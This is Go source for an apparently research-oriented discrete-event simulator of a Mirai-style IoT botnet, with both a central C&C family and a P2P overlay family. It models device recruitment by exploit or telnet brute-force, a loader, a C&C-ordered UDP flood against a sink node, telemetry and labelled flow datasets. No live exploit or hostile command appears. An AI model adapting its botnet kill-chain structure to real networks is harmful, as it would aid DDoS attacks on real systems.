			if !s.infectedDevs[dev.name] {
				now := s.sched.Now()
				s.infectedDevs[dev.name] = true
				s.results.Infected++
				ctrInfected.Inc()
				s.timeline.Record(now, EventExploitHit, dev.name)
				s.obs.Trace.Event(now, obs.CatExploit, "exploit-success",
					obs.KV{K: "dev", V: dev.name}, obs.KV{K: "binary", V: string(dev.binary)})
				// Exploit phase: first payload parsed → shell executed;
				// recruit covers the whole chain from the run's start.
				s.obs.Trace.RecordSpan(s.firstAttempt[dev.name], now,
					obs.CatKillChain, "exploit", obs.KV{K: "dev", V: dev.name})
				s.obs.Trace.RecordSpan(0, now, obs.CatKillChain, "recruit",
					obs.KV{K: "dev", V: dev.name})
			}
		case out.Crashed():
			s.results.Crashed++
			ctrCrashed.Inc()
			s.timeline.Record(s.sched.Now(), EventExploitCrash, dev.name)
			s.obs.Trace.Event(s.sched.Now(), obs.CatExploit, "exploit-crash",
				obs.KV{K: "dev", V: dev.name}, obs.KV{K: "binary", V: string(dev.binary)})
		}
	}
}

func (s *Simulation) snapshot() resources.Snapshot {
	st := s.net.Stats()
	return resources.Snapshot{
		ContainerBytes:  s.engine.TotalMemBytes(),
		TxFrames:        st.TxFrames,
		EventsProcessed: s.sched.Processed(),
		PeakQueued:      st.PeakQueued,
	}
}

func (s *Simulation) onlineDevs() int {
	n := 0
	for _, d := range s.devs {
		if d.Online() {
			n++
		}
	}
	return n
}

// Run executes the scenario to the configured horizon and returns the
// measurements.
func (s *Simulation) Run() (*Results, error) {
	s.results.DevsTotal = s.cfg.NumDevs
	s.results.AttackIssuedAt = -1

	// Churn applies from the outset (§IV-A); the fault scenario, when
	// declared, runs alongside it.
	s.churnCtl.Start()
	if s.faults != nil {
		s.faults.Start()
	}

	s.recruitSpan = s.obs.Trace.BeginSpan(s.sched.Now(), obs.CatPhase, "recruitment")

	// Recruitment watcher: issue the attack once every online Dev is
	// a registered bot, or at the recruitment deadline. It doubles as
	// the per-second sampler of the scheduler queue-depth gauge.
	queueDepth := s.obs.Metrics.Gauge("sim_queue_depth", "scheduler events pending right now")
	watcher := sim.NewTicker(s.sched, sim.Second, func() {
		queueDepth.Set(float64(s.sched.Pending()))
		if s.attackIssued {
			return
		}
		online := s.onlineDevs()
		full := online > 0 && s.attacker.CNC.BotCount() >= online
		if full || s.sched.Now() >= s.cfg.RecruitTimeout {
			s.issueAttack()
		}
	})
	watcher.Source = "core.watcher"
	watcher.Start()

	// Windowed time-series sampler: one row per WindowSize of sim time.
	windowTicker := sim.NewTicker(s.sched, s.cfg.WindowSize, func() {
		s.windows.Sample(s.sched.Now())
	})
	windowTicker.Source = "obs.windows"
	windowTicker.Start()

	if err := s.sched.Run(s.cfg.SimDuration); err != nil {
		return nil, fmt.Errorf("core: run: %w", err)
	}
	watcher.Stop()
	windowTicker.Stop()
	s.net.Flows().Stop()
	s.churnCtl.Stop()
	if s.faults != nil {
		s.faults.Stop()
	}

	if s.attackIssued && !s.postTaken {
		s.postSnap = s.snapshot()
		s.postTaken = true
	}
	s.assemble()
	return &s.results, nil
}

func (s *Simulation) issueAttack() {
	s.attackIssued = true
	s.preSnap = s.snapshot()
	now := s.sched.Now()
	s.results.AttackIssuedAt = now
	s.obs.Trace.EndSpan(s.recruitSpan, now)
	method := s.cfg.AttackMethod
	if method == "" {
		method = mirai.MethodUDPPlain
	}
	s.attackSpan = s.obs.Trace.BeginSpan(now, obs.CatPhase, "attack",
		obs.KV{K: "method", V: method},
		obs.KV{K: "duration_s", V: fmt.Sprint(s.cfg.AttackDuration)})
	target := s.tserver.Addr4()
	if s.cfg.AttackOverIPv6 {
		target = s.tserver.Addr6()
	}
	// Flood flows open after this instant; label them by their exact
	// target endpoint so the exported dataset separates attack traffic
	// from everything else.
	s.net.Flows().AddLabelRule(netsim.FlowLabelRule{
		Endpoint: netip.AddrPortFrom(target, s.cfg.AttackPort), Label: "attack"})
	n := s.attacker.CNC.LaunchAttack(mirai.AttackCommand{
		Method:   method,
		Target:   target,
		Port:     s.cfg.AttackPort,
		Duration: s.cfg.AttackDuration,
	})
	s.results.BotsAtCommand = n
	s.timeline.Record(now, EventAttackOrder, fmt.Sprintf("%d bots", n))

	// The attack phase span ends when the commanded flood duration
	// elapses (individual bots may trail off later due to jitter).
	s.sched.Schedule(sim.Time(s.cfg.AttackDuration)*sim.Second, func() {
		s.obs.Trace.EndSpan(s.attackSpan, s.sched.Now())
	})

	// Post-attack snapshot: after the last jittered bot finishes,
	// plus queue-drain grace.
	jitter := sim.Time(s.cfg.NumDevs) * s.cfg.StartJitterPerDev
	post := sim.Time(s.cfg.AttackDuration)*sim.Second + jitter + 10*sim.Second
	s.sched.Schedule(post, func() {
		if !s.postTaken {
			s.postSnap = s.snapshot()
			s.postTaken = true
		}
	})
}

func (s *Simulation) assemble() {
	r := &s.results
	// Finalize the telemetry artifacts: emit the tail window (idempotent
	// when the ticker already sampled this instant) and close every
	// still-open flow so the dataset accounts each offered packet.
	s.windows.Sample(s.sched.Now())
	s.net.Flows().FlushAll(s.sched.Now())
	r.Flows = s.flowBuf.Stats()
	r.NetStats = s.net.Stats()
	r.ChurnDepartures = s.churnCtl.Departures()
	r.ChurnRejoins = s.churnCtl.Rejoins()
	r.SinkBytes = s.sink.Series().TotalBytes()
	r.DistinctSources = s.sink.DistinctSources()
	r.Timeline = s.timeline
	if s.faults != nil {
		st := s.faults.Stats()
		r.Faults = &st
	}

	// Seal the observability layer: close dangling phase spans, mirror
	// the kernel counters into the registry, and condense a summary.
	s.obs.Trace.CloseOpenSpans(s.sched.Now())
	r.Phases = obs.SummarizePhases(s.obs.Trace.Spans(), obs.CatKillChain, faults.CatFault)
	reg := s.obs.Metrics
	reg.Gauge("sim_events_processed", "scheduler events executed this run").
		Set(float64(s.sched.Processed()))
	reg.Gauge("sim_queue_depth", "scheduler events pending right now").
		Set(float64(s.sched.Pending()))
	if r.AttackIssuedAt > 0 {
		reg.Gauge("infections_per_sec", "mean infections per second up to the attack order").
			Set(float64(r.Infected) / r.AttackIssuedAt.Seconds())
	}
	reg.Gauge("sink_rx_bytes_total", "attack bytes TServer's sink logged").
		Set(float64(r.SinkBytes))
	r.Obs = s.obs.Summarize()

	if s.attackIssued {
		from := int64(r.AttackIssuedAt / sim.Second)
		to := from + int64(s.cfg.AttackDuration)
		r.DReceivedKbps = s.sink.Series().AvgReceivedKbps(from, to)
		r.PerSecondKbps = s.sink.Series().KbpsSeries(from, to)
		r.Usage = resources.Estimate(resources.Inputs{
			Devs:          s.cfg.NumDevs,
			PreAttack:     s.preSnap,
			PostAttack:    s.postSnap,
			CommandedSecs: float64(s.cfg.AttackDuration),
		})
	}
}
