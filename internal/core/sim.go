package core

import (
	"crypto/sha256"
	"fmt"
	"math/rand"
	"net/netip"

	"ddosim/internal/attacker"
	"ddosim/internal/binaries/connman"
	"ddosim/internal/binaries/dnsmasq"
	imagecat "ddosim/internal/binaries/image"
	"ddosim/internal/binaries/telnetd"
	"ddosim/internal/churn"
	"ddosim/internal/container"
	"ddosim/internal/dht"
	"ddosim/internal/exploit"
	"ddosim/internal/faults"
	"ddosim/internal/metrics"
	"ddosim/internal/mirai"
	"ddosim/internal/netsim"
	"ddosim/internal/obs"
	"ddosim/internal/p2pbot"
	"ddosim/internal/procvm"
	"ddosim/internal/resources"
	"ddosim/internal/sim"
)

// Dev is one simulated IoT device: a container running a vulnerable
// daemon over a 100–500 kbps link.
type Dev struct {
	name      string
	binary    DevBinary
	prot      procvm.Protections
	rate      netsim.DataRate
	container *container.Container

	// respawn is the supervisor hook fault injection uses to bring the
	// Dev's service daemon back after a crash. It reports false (and
	// does nothing) when the daemon is still (or already) running.
	respawn func() bool
}

// Name implements churn.Device.
func (d *Dev) Name() string { return d.name }

// SetOnline implements churn.Device by flipping the Dev's link.
func (d *Dev) SetOnline(up bool) { d.container.Node().DefaultDevice().SetUp(up) }

// Online implements churn.Device.
func (d *Dev) Online() bool { return d.container.Node().DefaultDevice().IsUp() }

// Binary reports the daemon this Dev runs.
func (d *Dev) Binary() DevBinary { return d.binary }

// Protections reports the Dev's memory defenses.
func (d *Dev) Protections() procvm.Protections { return d.prot }

// Container exposes the underlying container.
func (d *Dev) Container() *container.Container { return d.container }

// Rate reports the Dev's sampled link rate.
func (d *Dev) Rate() netsim.DataRate { return d.rate }

// Simulation is one fully-built DDoSim instance.
type Simulation struct {
	cfg   Config
	sched *sim.Scheduler
	// set is the sharded parallel kernel (nil on the classic
	// single-scheduler path). When present, sched is its control-plane
	// scheduler: everything core schedules directly — churn, faults,
	// the recruitment watcher, window sampling — runs at epoch barriers
	// with the shard workers parked.
	set      *sim.ShardSet
	net      *netsim.Network
	star     *netsim.Star
	engine   *container.Engine
	attacker *attacker.Attacker
	loader   *mirai.Loader
	tserver  *netsim.Node
	sink     *netsim.Sink
	devs     []*Dev
	churnCtl *churn.Controller
	faults   *faults.Injector
	timeline *metrics.Timeline
	obs      *obs.Obs

	devByAddr map[netip.Addr]*Dev

	recruitSpan obs.SpanID
	attackSpan  obs.SpanID

	// Telemetry pipeline: exported flow records, windowed time series,
	// and the per-bot kill-chain bookkeeping behind the phase spans.
	flowBuf *obs.FlowBuffer
	windows *obs.Windows
	// firstAttempt records when each Dev first parsed an attacker
	// payload; firstReport when the loader first learned of a victim.
	// They anchor the "exploit" and "load" kill-chain spans.
	firstAttempt map[string]sim.Time
	firstReport  map[netip.Addr]sim.Time
	// winCmdSum/winCmdN accumulate command→flood latencies inside the
	// current window; the cnc_cmd_latency_s column drains them.
	winCmdSum float64
	winCmdN   int

	results        Results
	infectedDevs   map[string]bool
	registeredEver map[netip.Addr]bool

	attackIssued bool
	preSnap      resources.Snapshot
	postSnap     resources.Snapshot
	postTaken    bool
}

// New builds the full testbed for cfg: attacker container (C&C, file
// server, malicious DNS, DHCPv6 script), NumDevs Dev containers, and
// the TServer sink node, all joined through the star router.
func New(cfg Config) (*Simulation, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	if cfg.WindowSize <= 0 {
		cfg.WindowSize = sim.Second
	}
	s := &Simulation{
		cfg:            cfg,
		timeline:       metrics.NewTimeline(),
		obs:            obs.New(),
		devByAddr:      make(map[netip.Addr]*Dev),
		firstAttempt:   make(map[string]sim.Time),
		firstReport:    make(map[netip.Addr]sim.Time),
		infectedDevs:   make(map[string]bool),
		registeredEver: make(map[netip.Addr]bool),
	}
	if cfg.Shards > 0 {
		s.set = sim.NewShardSet(cfg.Seed, cfg.Shards, cfg.LinkDelay, cfg.SchedQueue)
		s.sched = s.set.CtlSched()
		// The scheduler profiler hook stays off: a per-event callback
		// into one shared profiler would race across shard workers.
		// The main tracer instead stamps every record with its logical
		// process and emission sequence so assemble() can merge the
		// per-shard buffers into one deterministic stream.
		ctl := s.set.CtlLP()
		s.obs.Trace.SetStamper(func() (uint32, uint64) {
			if lp := s.set.CtlSched().CurLP(); lp != nil {
				return lp.Idx(), lp.NextEmit()
			}
			if lp := s.set.Shard(0).Sched().CurLP(); lp != nil {
				return lp.Idx(), lp.NextEmit()
			}
			// Setup/assemble code outside any event, and control events
			// scheduled without an owner: attribute to the control LP.
			return ctl.Idx(), ctl.NextEmit()
		})
	} else {
		s.sched = sim.NewSchedulerQueue(cfg.Seed, cfg.SchedQueue)
		s.sched.SetHook(s.obs.SchedulerHook())
	}
	s.net = netsim.New(s.sched)
	if s.set != nil {
		s.net.EnableSharding(s.set)
	}
	s.net.Observe(s.obs)
	// The hub entities — star router, TServer, attacker — live on shard
	// 0; Devs spread over the remaining shards (all on 0 when there is
	// only one). LP allocation order is fixed regardless of the shard
	// count: the merge order of cross-shard messages keys on it.
	s.primeLP(0)
	s.star = netsim.NewStar(s.net)
	s.engine = container.NewEngine(s.sched, s.star)
	s.engine.Observe(s.obs)

	// TServer first so the attacker's scanner skip-list can include
	// it; then the attacker; then the fleet.
	deploySpan := s.obs.Trace.BeginSpan(s.sched.Now(), obs.CatPhase, "deploy",
		obs.KV{K: "devs", V: fmt.Sprint(cfg.NumDevs)})
	if err := s.deployTServer(); err != nil {
		return nil, err
	}
	if err := s.deployAttacker(); err != nil {
		return nil, err
	}
	if err := s.deployDevs(); err != nil {
		return nil, err
	}
	s.obs.Trace.EndSpan(deploySpan, s.sched.Now())

	churnDevs := make([]churn.Device, len(s.devs))
	for i, d := range s.devs {
		churnDevs[i] = d
	}
	s.churnCtl = churn.NewController(s.sched, cfg.Churn, churnDevs)
	s.churnCtl.Observe(s.obs)
	if cfg.ChurnEpoch > 0 {
		s.churnCtl.SetEpoch(cfg.ChurnEpoch)
	}
	s.churnCtl.OnChange = func(at sim.Time, dev churn.Device, online bool) {
		kind := EventChurnOffline
		if online {
			kind = EventChurnOnline
		}
		s.timeline.Record(at, kind, dev.Name())
	}
	if err := s.setupFaults(); err != nil {
		return nil, err
	}
	s.setupTelemetry()
	return s, nil
}

// primeLP allocates a logical process on the given shard and primes
// the network to bind the next created node to it. Returns nil on the
// classic path.
func (s *Simulation) primeLP(shard int) *sim.LP {
	if s.set == nil {
		return nil
	}
	lp := s.set.NewLP(shard)
	s.net.SetNextLP(lp)
	return lp
}

// devShardFor spreads the fleet over the non-hub shards (the hub —
// router, TServer, attacker — keeps shard 0 to itself when it can).
func (s *Simulation) devShardFor(i int) int {
	if s.set == nil {
		return 0
	}
	n := s.set.NumShards()
	if n == 1 {
		return 0
	}
	return 1 + i%(n-1)
}

// atkLP is the attacker hub's logical process (nil on the classic
// path).
func (s *Simulation) atkLP() *sim.LP {
	if s.set == nil {
		return nil
	}
	return s.attacker.Container.Node().LP()
}

// devLP is the logical process a Dev's node lives on (nil on the
// classic path).
func (s *Simulation) devLP(d *Dev) *sim.LP {
	if s.set == nil {
		return nil
	}
	return d.container.Node().LP()
}

// withLP runs fn attributed to lp — events it schedules and random
// draws it makes belong to lp's stream — or plainly on the classic
// path (lp nil).
func (s *Simulation) withLP(lp *sim.LP, fn func()) {
	if lp == nil {
		fn()
		return
	}
	s.set.WithLP(lp, fn)
}

// hubNow reads the current time from the attacker hub's shard — the
// correct clock inside CNC/loader callbacks, which execute on that
// shard's worker while the control clock lags at the previous barrier.
func (s *Simulation) hubNow() sim.Time {
	if s.set != nil {
		return s.attacker.Container.Node().Sched().Now()
	}
	return s.sched.Now()
}

// pending reports outstanding events across the whole kernel.
func (s *Simulation) pending() int {
	if s.set != nil {
		return s.set.Pending()
	}
	return s.sched.Pending()
}

// processed reports events executed across the whole kernel.
func (s *Simulation) processed() uint64 {
	if s.set != nil {
		return s.set.Processed()
	}
	return s.sched.Processed()
}

// setupTelemetry attaches the flow exporter (with ground-truth label
// rules) and registers the windowed time-series columns. Runs after
// deployment because the label rules need the attacker's addresses.
func (s *Simulation) setupTelemetry() {
	fcfg := netsim.FlowConfig{
		ActiveTimeout: s.cfg.FlowActiveTimeout,
		IdleTimeout:   s.cfg.FlowIdleTimeout,
	}
	if s.set == nil {
		// Classic path: one table, records stream into flowBuf as they
		// export. Sharded runs keep per-shard tables with private sinks;
		// assemble() merges them into flowBuf in canonical order.
		s.flowBuf = &obs.FlowBuffer{}
		fcfg.Sink = s.flowBuf
	}
	s.net.EnableFlows(fcfg)
	atk := s.attacker.Container.Node()
	// Rule order matters: the C&C listens on port 23 — the telnet port —
	// so the exact-endpoint C&C rule must precede the generic telnet
	// rule, or bot↔C&C flows would be labeled "recruit".
	s.net.AddFlowLabelRule(netsim.FlowLabelRule{
		Endpoint: netip.AddrPortFrom(atk.Addr4(), mirai.CNCPort), Label: "cnc"})
	s.net.AddFlowLabelRule(netsim.FlowLabelRule{
		Endpoint: netip.AddrPortFrom(atk.Addr4(), mirai.ScanListenPort), Label: "recruit"})
	s.net.AddFlowLabelRule(netsim.FlowLabelRule{Port: 23, Label: "recruit"})
	if s.cfg.p2p() {
		// Overlay control traffic — lookups, stores, refreshes on the
		// DHT port, between any pair of peers. Must precede the
		// attacker-address exploit rules or the seeder's DHT datagrams
		// would be mislabeled exploit-delivery.
		s.net.AddFlowLabelRule(netsim.FlowLabelRule{Port: dht.DefaultPort, Label: "dht"})
	}
	// Remaining attacker traffic (DNS poisoning, DHCPv6 payloads, bot
	// binary fetches) is the exploit-delivery plane.
	s.net.AddFlowLabelRule(netsim.FlowLabelRule{Addr: atk.Addr4(), Label: "exploit"})
	s.net.AddFlowLabelRule(netsim.FlowLabelRule{Addr: atk.Addr6(), Label: "exploit"})

	w := obs.NewWindows(s.cfg.WindowSize)
	w.Column("infected", func() float64 { return float64(s.results.Infected) })
	w.DeltaColumn("new_infections", func() float64 { return float64(s.results.Infected) })
	w.Column("bots_registered", func() float64 { return float64(s.results.BotsRegistered) })
	w.DeltaColumn("net_tx_bytes", func() float64 { return float64(s.net.Stats().TxBytes) })
	w.DeltaColumn("net_drops", func() float64 { return float64(s.net.Stats().Drops) })
	w.DeltaColumn("sink_rx_bytes", func() float64 { return float64(s.sink.Series().TotalBytes()) })
	w.Column("queue_depth", func() float64 { return float64(s.pending()) })
	// Mean command→first-flood-packet latency over the window; reading
	// drains the accumulator (documented side effect — Windows calls
	// each reader exactly once per Sample).
	w.Column("cnc_cmd_latency_s", func() float64 {
		if s.winCmdN == 0 {
			return 0
		}
		v := s.winCmdSum / float64(s.winCmdN)
		s.winCmdSum, s.winCmdN = 0, 0
		return v
	})
	s.windows = w
}

// setupFaults builds the fault injector when the config declares a
// scenario. A zero Faults config builds nothing at all, so fault-free
// runs stay byte-identical to builds without the subsystem.
func (s *Simulation) setupFaults() error {
	if !s.cfg.Faults.Enabled() {
		return nil
	}
	inj, err := faults.New(s.sched, s.cfg.Faults, s.cfg.Seed, s.obs)
	if err != nil {
		return err
	}
	inj.OnEvent = func(kind, actor string) {
		s.timeline.Record(s.sched.Now(), kind, actor)
	}
	for _, dev := range s.devs {
		dev := dev
		inj.AddLink(dev.name, dev.container.Node().DefaultDevice())
		inj.AddProcTarget(faults.ProcTarget{
			Name: dev.name,
			Crash: func(rng *rand.Rand) (string, bool) {
				// Runs on the control plane — at an epoch barrier under
				// the sharded kernel, with every worker parked, so the
				// cross-partition process kill is race-free. withLP
				// attributes any events the teardown schedules to the
				// victim Dev's own logical process.
				what, ok := "", false
				s.withLP(s.devLP(dev), func() {
					procs := dev.container.Procs()
					if len(procs) == 0 {
						return
					}
					p := procs[rng.Intn(len(procs))]
					what, ok = p.Title(), true
					if p.Tag("malware") != "" {
						// A crashed bot stays dead until the botnet itself
						// re-recruits the device: the loader forgets the
						// victim so a scanner re-report can re-infect it.
						// That recovery loop is what the resilience
						// experiment measures.
						what = "bot"
						if s.loader != nil {
							s.loader.Forget(dev.container.Node().Addr4())
						}
					}
					dev.container.Kill(p.PID())
				})
				return what, ok
			},
			Restart: func(string) bool {
				if dev.respawn == nil {
					return false
				}
				ok := false
				s.withLP(s.devLP(dev), func() { ok = dev.respawn() })
				return ok
			},
		})
	}
	atkC := s.attacker.Container
	cncTarget := faults.ProcTarget{
		Name: "attacker",
		Crash: func(*rand.Rand) (string, bool) {
			p := atkC.FindByTCPPort(mirai.CNCPort)
			if p == nil {
				return "", false
			}
			s.withLP(s.atkLP(), func() { atkC.Kill(p.PID()) })
			return "cnc", true
		},
		Restart: func(string) bool {
			if atkC.FindByTCPPort(mirai.CNCPort) != nil {
				return false
			}
			// Re-exec the C&C binary; the attacker's factory rebinds
			// s.attacker.CNC to the fresh instance.
			var err error
			s.withLP(s.atkLP(), func() { _, err = atkC.ExecFile("/usr/bin/cnc", nil) })
			return err == nil
		},
	}
	if s.cfg.p2p() {
		// The P2P family's "C&C" is the seeder daemon (UDP, so found by
		// process title, not TCP port). Crash/restart re-exec the seed
		// binary; the takedown scenario kills it for good — which is
		// exactly the fault whose blast radius the family shrinks.
		findSeed := func() *container.Process {
			for _, p := range atkC.Procs() {
				if p.Title() == "p2p-seed" {
					return p
				}
			}
			return nil
		}
		cncTarget = faults.ProcTarget{
			Name: "attacker",
			Crash: func(*rand.Rand) (string, bool) {
				p := findSeed()
				if p == nil {
					return "", false
				}
				s.withLP(s.atkLP(), func() { atkC.Kill(p.PID()) })
				return "p2p-seed", true
			},
			Restart: func(string) bool {
				if findSeed() != nil {
					return false
				}
				var err error
				s.withLP(s.atkLP(), func() { _, err = atkC.ExecFile("/usr/bin/p2p-seed", nil) })
				return err == nil
			},
		}
	}
	inj.SetCNC("attacker", atkC.Node().DefaultDevice(), cncTarget)
	inj.SetSink(func(down bool) {
		if down {
			s.sink.Suspend()
		} else {
			s.sink.Resume()
		}
	})
	s.faults = inj
	return nil
}

// Faults exposes the fault injector (nil when the config declares no
// scenario).
func (s *Simulation) Faults() *faults.Injector { return s.faults }

// Sched exposes the scheduler (examples drive extra behaviours with
// it).
func (s *Simulation) Sched() *sim.Scheduler { return s.sched }

// ShardSet exposes the sharded parallel kernel, or nil on the classic
// single-scheduler path.
func (s *Simulation) ShardSet() *sim.ShardSet { return s.set }

// Network exposes the simulated network.
func (s *Simulation) Network() *netsim.Network { return s.net }

// Star exposes the topology helper so callers can attach extra hosts
// (e.g. benign-traffic clients for defense experiments).
func (s *Simulation) Star() *netsim.Star { return s.star }

// Engine exposes the container runtime.
func (s *Simulation) Engine() *container.Engine { return s.engine }

// Attacker exposes the deployed attacker component.
func (s *Simulation) Attacker() *attacker.Attacker { return s.attacker }

// CNC exposes the Mirai command-and-control server (nil for the P2P
// family, which has none — that is the point).
func (s *Simulation) CNC() *mirai.CNC { return s.attacker.CNC }

// Seeder exposes the P2P family's overlay seed process (nil for the
// mirai family).
func (s *Simulation) Seeder() *p2pbot.Seeder { return s.attacker.Seeder }

// TServer exposes the target node.
func (s *Simulation) TServer() *netsim.Node { return s.tserver }

// Sink exposes TServer's measurement application.
func (s *Simulation) Sink() *netsim.Sink { return s.sink }

// Devs returns the fleet (a copy of the slice).
func (s *Simulation) Devs() []*Dev {
	out := make([]*Dev, len(s.devs))
	copy(out, s.devs)
	return out
}

// Timeline exposes the run's event log.
func (s *Simulation) Timeline() *metrics.Timeline { return s.timeline }

// Obs exposes the run's observability bundle (tracer, metrics
// registry, scheduler profiler).
func (s *Simulation) Obs() *obs.Obs { return s.obs }

// Flows exposes the buffered flow records exported during the run.
func (s *Simulation) Flows() *obs.FlowBuffer { return s.flowBuf }

// FlowTable exposes the network's flow accountant.
func (s *Simulation) FlowTable() *netsim.FlowTable { return s.net.Flows() }

// Windows exposes the windowed time-series metrics.
func (s *Simulation) Windows() *obs.Windows { return s.windows }

func (s *Simulation) deployAttacker() error {
	jitter := sim.Time(0)
	if s.cfg.StartJitterPerDev > 0 {
		jitter = sim.Time(s.cfg.NumDevs) * s.cfg.StartJitterPerDev
	}
	atkCfg := attacker.Config{
		DHCPv6Period: s.cfg.DHCPv6Period,
		Obs:          s.obs,
		Bot: mirai.BotConfig{
			PayloadBytes: s.cfg.PayloadBytes,
			StartJitter:  jitter,
			// Bots start their floods on their Dev's shard; the
			// bookkeeping mutates run-wide state, so under the sharded
			// kernel it travels to the control plane as a timestamped
			// message and executes at the next barrier with the
			// originating instant preserved.
			OnAttackStart: s.attackStartHook(),
		},
		CNC: mirai.CNCConfig{
			ReplayAttackCommand: s.cfg.CNCReplayAttack,
			// Registration callbacks execute on the attacker hub's
			// shard; run-wide state they touch is only otherwise
			// written at barriers, so plain calls stay race-free.
			// Timestamps come from the hub clock, not the lagging
			// control clock.
			OnBotRegistered: func(addr netip.Addr, arch string) {
				if !s.registeredEver[addr] {
					s.registeredEver[addr] = true
					s.results.BotsRegistered++
				}
				s.timeline.Record(s.hubNow(), EventBotJoined, s.devName(addr))
			},
			OnBotLost: func(addr netip.Addr) {
				s.timeline.Record(s.hubNow(), EventBotLost, s.devName(addr))
			},
		},
	}
	if s.cfg.p2p() {
		// The decentralized family: same exploit chain, same downloaded
		// binary path, but the binary joins a Kademlia overlay instead
		// of dialing home. The botmaster's keypair derives from the run
		// seed so same-seed runs sign byte-identical records.
		kseed := sha256.Sum256([]byte(fmt.Sprintf("ddosim/p2p-key/%d", s.cfg.Seed)))
		pub, priv := p2pbot.DeriveKey(kseed)
		atkCfg.P2P = true
		atkCfg.Seeder = p2pbot.SeederConfig{
			Key: priv,
			// The seeder's census is the family's recruitment signal:
			// first contact from a peer is the moment it joined the
			// overlay, the counterpart of a C&C registration. The hook
			// executes on the attacker hub's shard, like the CNC hooks
			// above.
			OnContact: func(addr netip.Addr) {
				if !s.registeredEver[addr] {
					s.registeredEver[addr] = true
					s.results.BotsRegistered++
				}
				s.timeline.Record(s.hubNow(), EventBotJoined, s.devName(addr))
			},
		}
		atkCfg.P2PBot = p2pbot.BotConfig{
			PubKey:        pub,
			PollPeriod:    s.cfg.P2PPollPeriod,
			PayloadBytes:  s.cfg.PayloadBytes,
			StartJitter:   jitter,
			OnAttackStart: s.attackStartHook(),
		}
	}
	if s.cfg.Vector == VectorCredentials {
		// Credential recruitment: no exploit scripts; instead the
		// distributed bots scan and brute-force telnet, and a loader
		// pushes the infection command to reported victims.
		atkCfg.DisableExploitScripts = true
		atkCfg.Bot.Scan = mirai.ScanConfig{
			Enabled: true,
			Prefix:  netip.MustParsePrefix("10.0.0.0/24"),
			Period:  s.cfg.ScanPeriod,
			Skip:    []netip.Addr{s.tserver.Addr4()},
		}
	}
	if s.set != nil {
		// The conservative kernel needs every link latency at or above
		// the lookahead; the attacker's default 1 ms uplink would
		// undercut a 2 ms epoch. Classic runs keep the default so the
		// legacy artifact family is untouched.
		atkCfg.LinkDelay = s.cfg.LinkDelay
	}
	atkLP := s.primeLP(0)
	var atk *attacker.Attacker
	var err error
	s.withLP(atkLP, func() { atk, err = attacker.Deploy(s.engine, atkCfg) })
	if err != nil {
		return err
	}
	s.attacker = atk

	if s.cfg.Vector == VectorCredentials {
		// Loader callbacks execute on the attacker hub's shard, like
		// the CNC registration hooks above.
		s.loader = mirai.NewLoader(mirai.LoaderConfig{
			InfectionCommand: exploit.InfectionCommand(atk.ScriptURL()),
			OnReport: func(victim netip.Addr) {
				if _, seen := s.firstReport[victim]; seen {
					return
				}
				now := s.hubNow()
				s.firstReport[victim] = now
				// Scan phase: run start → a scanner first cracked the
				// victim and reported it.
				s.obs.Trace.RecordSpan(0, now, obs.CatKillChain, "scan",
					obs.KV{K: "dev", V: s.devName(victim)})
			},
			OnLoaded: func(victim netip.Addr) {
				dev, ok := s.devByAddr[victim]
				if !ok {
					return
				}
				if !s.infectedDevs[dev.name] {
					now := s.hubNow()
					s.infectedDevs[dev.name] = true
					s.results.Infected++
					s.obs.Metrics.Counter("infections_total", "Devs recruited into the botnet").Inc()
					s.timeline.Record(now, EventLoaded, dev.name)
					s.obs.Trace.Event(now, obs.CatExploit, "exploit-success",
						obs.KV{K: "dev", V: dev.name}, obs.KV{K: "channel", V: "loader"})
					if at, ok := s.firstReport[victim]; ok {
						s.obs.Trace.RecordSpan(at, now, obs.CatKillChain, "load",
							obs.KV{K: "dev", V: dev.name})
					}
					s.obs.Trace.RecordSpan(0, now, obs.CatKillChain, "recruit",
						obs.KV{K: "dev", V: dev.name})
				}
			},
		})
		s.withLP(atkLP, func() {
			atk.Container.Spawn(s.loader)
			atk.Container.Spawn(mirai.SeedScannerBehavior(atk.BotTemplate.Scan, s.cfg.SeedCount))
		})
	}
	return nil
}

// attackStartHook builds the per-bot flood-start callback both bot
// families share: inline on the classic path, a timestamped message to
// the control plane under the sharded kernel (the bookkeeping mutates
// run-wide state).
func (s *Simulation) attackStartHook() func(addr netip.Addr) {
	return func(addr netip.Addr) {
		if s.set == nil {
			s.noteFloodStart(addr)
			return
		}
		dev, ok := s.devByAddr[addr]
		if !ok {
			return
		}
		lp := dev.container.Node().LP()
		lp.SendFunc(s.set.CtlLP(), lp.Shard().Sched().Now(),
			func(sim.Time) { s.noteFloodStart(addr) })
	}
}

// botCount reads the active family's recruitment census: live C&C
// registrations for mirai, distinct overlay peers ever heard for p2p.
// Reads happen on the control plane (at epoch barriers under the
// sharded kernel), the same discipline as every other hub-state read.
func (s *Simulation) botCount() int {
	if s.attacker.Seeder != nil {
		return s.attacker.Seeder.Contacts
	}
	if s.attacker.CNC != nil {
		return s.attacker.CNC.BotCount()
	}
	return 0
}

// noteFloodStart is the flood-start bookkeeping: on the classic path
// it runs inline from the bot; sharded it runs as a control event at
// the barrier after the start, with Now() equal to the start instant.
func (s *Simulation) noteFloodStart(addr netip.Addr) {
	now := s.sched.Now()
	s.timeline.Record(now, EventFloodStart, s.devName(addr))
	s.obs.Trace.Event(now, obs.CatCNC, "flood-start",
		obs.KV{K: "dev", V: s.devName(addr)})
	if s.attackIssued {
		at := s.results.AttackIssuedAt
		s.obs.Trace.RecordSpan(at, now, obs.CatKillChain, "attack",
			obs.KV{K: "dev", V: s.devName(addr)})
		s.winCmdSum += (now - at).Seconds()
		s.winCmdN++
	}
}

func (s *Simulation) devName(addr netip.Addr) string {
	if d, ok := s.devByAddr[addr]; ok {
		return d.name
	}
	return addr.String()
}

func (s *Simulation) deployTServer() error {
	// TServer is an NS-3-style node, not a container (§II-C): modest
	// uplink, a downlink wide enough to be the shared bottleneck.
	lp := s.primeLP(0)
	var err error
	s.withLP(lp, func() {
		s.tserver = s.star.AttachHostAsym("tserver",
			10*netsim.Mbps, s.cfg.TServerDownlink, s.cfg.LinkDelay, netsim.DefaultQueueLimit)
		s.sink, err = netsim.InstallSink(s.tserver, s.cfg.AttackPort)
	})
	if err != nil {
		return fmt.Errorf("core: tserver sink: %w", err)
	}
	return nil
}

// Loader exposes the Mirai loader (credentials vector only; nil
// otherwise).
func (s *Simulation) Loader() *mirai.Loader { return s.loader }

func (s *Simulation) deployDevs() error {
	if s.cfg.Vector == VectorCredentials {
		return s.deployTelnetDevs()
	}
	return s.deployVulnDaemonDevs()
}

